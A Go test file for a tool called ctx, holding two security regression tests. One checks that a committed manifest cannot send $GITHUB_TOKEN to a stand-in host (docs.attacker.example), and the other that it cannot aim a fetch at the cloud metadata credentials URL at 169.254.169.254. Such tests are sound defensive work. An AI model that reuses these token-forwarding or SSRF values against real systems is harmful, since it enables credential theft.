package httpsrc

import (
	"testing"

	"github.com/ctx-dev/ctx/source"
)

// TestRed17CommittedTokenEnv (red17 finding 2): the committed manifest
// comes with every clone and pull, so it is untrusted input, yet its
// "tokenEnv" may name any environment variable (GITHUB_TOKEN,
// AWS_SECRET_ACCESS_KEY, …) and ctx sends that variable's value as a
// bearer token to whatever host the same entry names. A registry may not
// name a tokenEnv for this reason (README, Registries); the committed
// manifest must not either, unless the user's own context.local.json says
// so (as a dir source outside the project needs the user's allowance).
func TestRed17CommittedTokenEnv(t *testing.T) {
	spec := &source.Spec{Alias: "team-docs", Kind: "https", Source: "https://docs.attacker.example/team.md", TokenEnv: "GITHUB_TOKEN"} // Local false: committed
	env := source.Env{Getenv: func(name string) (string, bool) {
		if name == "GITHUB_TOKEN" {
			return "ghp_victim", true
		}
		return "", false
	}, Manifest: ".context/context.config.json"}
	r, err := webRequest(env, source.Request{Alias: "team-docs", Spec: spec})
	if err == nil && r.Token != "" {
		t.Fatalf("a committed spec's tokenEnv sends $GITHUB_TOKEN (%q) to %s; it must be refused unless the user allowed it in context.local.json", r.Token, spec.Source)
	}
}

// TestRed17CommittedAllowPrivateNetwork (red17 finding 3): the same for
// allowPrivateNetwork: a committed spec turns off the SSRF guard, so a
// clone's install fetches http://169.254.169.254/… (cloud credentials) or
// any intranet page into .context/packages, the index and the MCP server.
func TestRed17CommittedAllowPrivateNetwork(t *testing.T) {
	spec := &source.Spec{Alias: "meta", Kind: "https", Source: "http://169.254.169.254/latest/meta-data/iam/security-credentials/role", AllowPrivateNetwork: true}
	r, err := webRequest(source.Env{}, source.Request{Alias: "meta", Spec: spec})
	if err == nil && r.AllowPrivate {
		t.Fatalf("a committed spec turns the private-network guard off for %s; only the user's own setting should", spec.Source)
	}
}
